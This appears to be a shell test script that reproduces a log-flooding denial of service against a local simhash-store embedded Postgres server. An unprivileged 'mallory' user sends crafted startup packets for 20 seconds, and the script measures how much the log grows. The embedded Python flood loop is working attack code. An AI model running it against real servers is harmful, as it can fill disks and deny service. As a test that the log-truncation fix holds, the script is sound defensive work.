#!/bin/sh
# As root: h19l_victim runs `serve --listen 127.0.0.1:54919`; h19l_mallory, with no password, opens
# refused connections (a database pg_hba.conf does not name) for 20 s; the embedded server's log grows
# by one FATAL line each, and nothing rotated it. Fixed: past 16 MiB it is cut down to its last 1 MiB
# (at each command's start, and every second while serve runs).
set -u
L=/home/h19l_victim/.local/share/simhash-store/pgdata/log
cd /home/h19l_victim
runuser -u h19l_victim -- env -i HOME=/home/h19l_victim PATH=/home/h19l_victim/venv/bin:/usr/bin:/bin \
    simhash-store serve --listen 127.0.0.1:54919 >/dev/null 2>&1 &
serve=$!  # runuser, which passes SIGTERM on to the serve it started
sleep 12
before=$(stat -c %s "$L")
runuser -u h19l_mallory -- /usr/bin/python3 - <<'PY'
import socket, struct, time
body = struct.pack("!I", 196608) + b"user\0" + b"u" * 63 + b"\0database\0" + b"d" * 63 + b"\0\0"
packet = struct.pack("!I", len(body) + 4) + body
end, n = time.time() + 20, 0
while time.time() < end:
    s = socket.create_connection(("127.0.0.1", 54919))
    s.sendall(packet)
    try:
        s.recv(4096)
    except OSError:
        pass
    s.close()
    n += 1
print(n, "refused connections")
PY
after=$(stat -c %s "$L")
echo "the server's log grew by $((after - before)) bytes in 20 s"
postmaster=$(head -1 /home/h19l_victim/.local/share/simhash-store/pgdata/postmaster.pid)
grep flags /proc/"$postmaster"/fdinfo/2   # 02000 set: O_APPEND, so truncate -s 0 is safe
kill -TERM "$serve"
wait "$serve"
